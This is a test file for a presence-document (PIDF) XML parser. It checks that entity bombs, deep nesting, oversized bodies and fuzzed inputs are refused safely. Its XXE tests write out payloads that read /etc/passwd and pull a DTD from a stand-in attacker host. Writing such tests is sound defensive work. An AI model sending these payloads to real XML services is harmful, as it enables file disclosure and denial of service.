import { expect } from 'chai';
import { XMLParser } from 'fast-xml-parser';
import { childElements } from '../../../src/presence/pidf/xml-tree.js';
import { composePresence, parsePidf, serializePidf } from '../../../src/presence/pidf/index.js';
import { pidf, tuple, VALID_DOCUMENTS } from './fixtures.js';
import { prng, refusal } from './helpers.js';

const PIDF_OPEN = '<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="pres:a@example.com">';

/**
 * Runs `f` counting the documents that reach the XML tokenizer: a refusal "before parsing"
 * means none did. (How fast that is belongs to `npm run bench:parse`, not to a test.)
 */
function counted<T>(f: () => T): { value: T; tokenized: number } {
  const original = XMLParser.prototype.parse;
  let tokenized = 0;
  XMLParser.prototype.parse = function (this: XMLParser, ...args: unknown[]) {
    tokenized++;
    return (original as (...a: unknown[]) => unknown).apply(this, args);
  } as XMLParser['parse'];
  try {
    return { value: f(), tokenized };
  } finally {
    XMLParser.prototype.parse = original;
  }
}

describe('pidf: hostile input', () => {
  it('refuses the billion laughs before tokenizing, so nothing is expanded', () => {
    const levels = ['<!ENTITY lol "lol">'];
    for (let i = 1; i <= 9; i++) levels.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
    const bomb = `<?xml version="1.0"?>\n<!DOCTYPE presence [\n${levels.join('\n')}\n]>\n${PIDF_OPEN}<note>&lol9;</note></presence>`;
    const { value, tokenized } = counted(() => parsePidf(bomb));
    expect(value).to.deep.equal({ ok: false, reason: 'Invalid PIDF: DOCTYPE not allowed' });
    expect(tokenized).to.equal(0);
  });

  it('refuses external entities (XXE) and parameter entities', () => {
    expect(refusal(`<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]>${PIDF_OPEN}<note>&x;</note></presence>`)).to.equal(
      'Invalid PIDF: DOCTYPE not allowed',
    );
    expect(refusal(`<!DOCTYPE p [<!ENTITY % x SYSTEM "http://attacker.example/x.dtd"> %x;]>${PIDF_OPEN}</presence>`)).to.equal(
      'Invalid PIDF: DOCTYPE not allowed',
    );
    expect(refusal(`<!doctype presence>${PIDF_OPEN}</presence>`)).to.equal('Invalid PIDF: DOCTYPE not allowed');
  });

  it('refuses the quadratic blow-up (one huge entity used many times)', () => {
    const bomb = `<!DOCTYPE p [<!ENTITY a "${'x'.repeat(20_000)}">]>${PIDF_OPEN}<note>${'&a;'.repeat(10_000)}</note></presence>`;
    expect(refusal(bomb, { maxBytes: 1_000_000 })).to.equal('Invalid PIDF: DOCTYPE not allowed');
  });

  it('an undeclared entity reference is not expanded, it is refused', () => {
    expect(refusal(pidf('<note>&lol9;</note>'))).to.equal('Invalid PIDF: not well-formed XML');
  });

  it('refuses 100 000 levels of nesting before tokenizing, without recursion trouble', () => {
    const deep = `${PIDF_OPEN}${'<x xmlns="urn:x">'.repeat(100_000)}${'</x>'.repeat(100_000)}</presence>`;
    const { value, tokenized } = counted(() => parsePidf(deep, { maxBytes: 10_000_000 }));
    expect(value).to.deep.equal({ ok: false, reason: 'Invalid PIDF: too deeply nested' });
    expect(tokenized).to.equal(0);
  });

  it('a megabyte body is refused before any parsing', () => {
    const big = Buffer.alloc(1024 * 1024, 0x20);
    const { value, tokenized } = counted(() => parsePidf(big));
    expect(value).to.deep.equal({ ok: false, reason: 'Invalid PIDF: document too large' });
    expect(tokenized).to.equal(0);
  });

  it('many attributes and many elements within the size limit are read whole, once', () => {
    const attrs = Array.from({ length: 3000 }, (_, i) => `a${i}="${i}"`).join(' ');
    const wide = counted(() => parsePidf(pidf(tuple('t', 'open', `<x xmlns="urn:x" ${attrs}/>`))));
    expect(wide.tokenized).to.equal(1);
    const x = wide.value.ok ? childElements(wide.value.document.tuples[0]!.raw, 'urn:x', 'x')[0] : undefined;
    expect(x?.attributes.length).to.equal(3000);
    const many = counted(() => parsePidf(pidf(Array.from({ length: 1000 }, (_, i) => tuple(`t${i}`)).join(''))));
    expect(many.tokenized).to.equal(1);
    expect(many.value.ok && many.value.document.tuples.length).to.equal(1000);
  });

  describe('randomized: 2,000 mutated documents', () => {
    const TOKENS = [
      '<',
      '>',
      '/>',
      '</',
      '&',
      '&amp;',
      '&#0;',
      '&#x1F600;',
      '&unknown;',
      '"',
      "'",
      '=',
      ':',
      'xmlns',
      'xmlns:p="urn:p"',
      'xmlns=""',
      'p:',
      '<![CDATA[<&>]]>',
      ']]>',
      '<!--x-->',
      '<?pi x?>',
      '<!DOCTYPE p>',
      '<!ENTITY a "b">',
      '\u0000',
      '\uD800',
      '\uFFFE',
      'é',
      '😀',
      '\r\n',
      'open',
      'closed',
      'id="t1"',
      '<tuple id="t1"><status><basic>open</basic></status></tuple>',
      '<note xml:lang="en">n</note>',
      '<timestamp>2024-02-30T00:00:00Z</timestamp>',
      'constructor',
      '__proto__',
    ];
    const seeds = Object.values(VALID_DOCUMENTS);

    function mutate(doc: string, rnd: () => number): string {
      let s = doc;
      const n = 1 + Math.floor(rnd() * 5);
      for (let k = 0; k < n; k++) {
        const at = Math.floor(rnd() * (s.length + 1));
        const len = Math.floor(rnd() * 12);
        switch (Math.floor(rnd() * 6)) {
          case 0: // delete
            s = s.slice(0, at) + s.slice(at + len);
            break;
          case 1: // insert a token
            s = s.slice(0, at) + TOKENS[Math.floor(rnd() * TOKENS.length)]! + s.slice(at);
            break;
          case 2: // duplicate a slice somewhere else
            s = s.slice(0, at) + s.slice(at, at + len * 8) + s.slice(at);
            break;
          case 3: // replace a character with a random one
            s = s.slice(0, at) + String.fromCharCode(Math.floor(rnd() * 0x3000)) + s.slice(at + 1);
            break;
          case 4: // truncate
            s = s.slice(0, at);
            break;
          default: {
            // swap two slices
            const other = Math.floor(rnd() * (s.length + 1));
            const [x, y] = at < other ? [at, other] : [other, at];
            s = s.slice(0, x) + s.slice(y, y + len) + s.slice(x + len, y) + s.slice(x, x + len) + s.slice(y + len);
          }
        }
      }
      return s;
    }

    it('never throw, and whatever is accepted composes and writes into a valid document', () => {
      const rnd = prng(0x5eed);
      let accepted = 0;
      for (let i = 0; i < 2000; i++) {
        const text = mutate(seeds[i % seeds.length]!, rnd);
        // Half of them as bytes with a flipped byte or two (invalid UTF-8 among them).
        let input: string | Buffer = text;
        if (i % 2 === 1) {
          const b = Buffer.from(text, 'utf8');
          if (b.length > 0 && rnd() < 0.5) b[Math.floor(rnd() * b.length)] = Math.floor(rnd() * 256);
          input = b;
        }
        let r: ReturnType<typeof parsePidf>;
        try {
          r = parsePidf(input);
        } catch (e) {
          expect.fail(`parsePidf threw on case ${i}: ${String(e)}\n${text}`);
        }
        if (!r.ok) {
          expect(r.reason, `case ${i}`).to.match(/^Invalid PIDF: [\x20-\x7e]+$/);
          continue;
        }
        accepted++;
        const written = serializePidf(composePresence('sip:someone@example.com', [{ document: r.document, publishedAt: i }]));
        const again = parsePidf(written);
        if (!again.ok) expect.fail(`case ${i}: our own output was refused (${again.reason})\n${text}\n---\n${written.toString('utf8')}`);
        expect(again.document.tuples.map((t) => t.id)).to.deep.equal(r.document.tuples.map((t) => t.id));
      }
      // The mutations are mild enough that some documents survive them.
      expect(accepted).to.be.above(50);
    });
  });
});
